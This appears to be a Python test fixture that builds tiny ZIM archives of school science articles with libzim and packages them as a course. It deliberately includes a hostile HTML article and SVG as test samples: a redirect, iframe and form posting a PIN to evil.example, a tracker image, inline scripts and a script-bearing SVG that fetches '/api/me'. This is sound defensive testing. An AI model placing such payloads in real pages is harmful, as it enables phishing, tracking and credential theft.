"""Tiny ZIM files written by the tests with libzim's own writer: a main page, a few
articles (one hostile), a picture, two drawings (one hostile); with or without a
full-text index."""

from __future__ import annotations

import textwrap
from pathlib import Path

from libzim.writer import Creator, Hint, Item, StringProvider

from content.package.build import build_package
from tests.books import PNG

HOSTILE = """<html><head><title>Trap</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<script>document.title = 'owned'</script>
<link rel="stylesheet" href="style.css"></head><body>
<h1 onclick="steal()">Trap page</h1>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/post"><input name="pin"></form>
<p>Read about <a href="Water">the water cycle</a> or
<a href="https://evil.example/more">the outside site</a>.</p>
<img src="https://evil.example/track.png" alt="tracker">
<img src="I/drop.png" alt="A drop of water">
</body></html>"""

# Two drawings: one the SVG check lets through, one it refuses (it runs a script).
CHART_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
    '<circle cx="5" cy="5" r="4" fill="#06c"/></svg>'
)
TRAP_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
    "<script>fetch('/api/me')</script><rect width='10' height='10'/></svg>"
)

ARTICLES = {
    "Home": (
        "Home",
        "<html><body><h1>Welcome</h1><p>Start with <a href='Water'>water</a>.</p></body></html>",
    ),
    "Water": (
        "Water cycle",
        "<html><body><p>Water evaporates from the sea and falls as "
        "rain over the mountains.</p></body></html>",
    ),
    "Volcano": ("Volcano", "<html><body><p>A volcano lets molten rock out.</p></body></html>"),
    "Trap": ("Trap", HOSTILE),
}


class _Item(Item):  # type: ignore[misc]
    def __init__(self, path: str, title: str, mimetype: str, content: str | bytes):
        super().__init__()
        self.path, self.title, self.mimetype, self.content = path, title, mimetype, content

    def get_path(self) -> str:
        return self.path

    def get_title(self) -> str:
        return self.title

    def get_mimetype(self) -> str:
        return self.mimetype

    def get_contentprovider(self) -> StringProvider:
        return StringProvider(self.content)

    def get_hints(self) -> dict[Hint, int]:
        return {Hint.FRONT_ARTICLE: self.mimetype == "text/html"}


def write_zim(path: Path, *, fulltext: bool = True, title: str = "Pocket Science") -> Path:
    """A ZIM of four articles (one hostile), a PNG and two SVGs, with a main page."""
    with Creator(str(path)).config_indexing(fulltext, "eng") as creator:
        creator.set_mainpath("Home")
        for article_path, (article_title, html) in ARTICLES.items():
            creator.add_item(_Item(article_path, article_title, "text/html", html))
        creator.add_item(_Item("I/drop.png", "", "image/png", PNG))
        creator.add_item(_Item("I/chart.svg", "", "image/svg+xml", CHART_SVG))
        creator.add_item(_Item("I/trap.svg", "", "image/svg+xml", TRAP_SVG))
        creator.add_item(_Item("style.css", "", "text/css", "body{display:none}"))
        creator.add_metadata("Title", title)
        creator.add_metadata("Language", "eng")
        creator.add_metadata("Description", "Short science articles for schools")
    return path


def collection_package(
    base: Path,
    course_id: str = "org.example.science",
    *,
    fulltext: bool = True,
    zim: bytes | None = None,
) -> Path:
    """The publisher's side: a course folder with an introduction and a ZIM, built."""
    src = base / f"src-{course_id}"
    src.mkdir(parents=True)
    if zim is None:
        write_zim(src / "science.zim", fulltext=fulltext)
    else:
        (src / "science.zim").write_bytes(zim)
    (src / "intro.md").write_text(
        "---\nkey: intro\ntitle: About this collection\nkind: reading\n---\n\n"
        "Short science articles. Search them or start at the main page.\n"
    )
    (src / "course.yaml").write_text(
        textwrap.dedent(
            f"""\
            id: {course_id}
            version: 1
            title: Pocket Science
            summary: Short science articles.
            category: education
            language: en
            level: beginner
            estimated_hours: 2
            license: CC-BY-SA-4.0
            lessons: [intro.md]
            collection: science.zim
            """
        )
    )
    return build_package(src, base / "dist", progress=False)
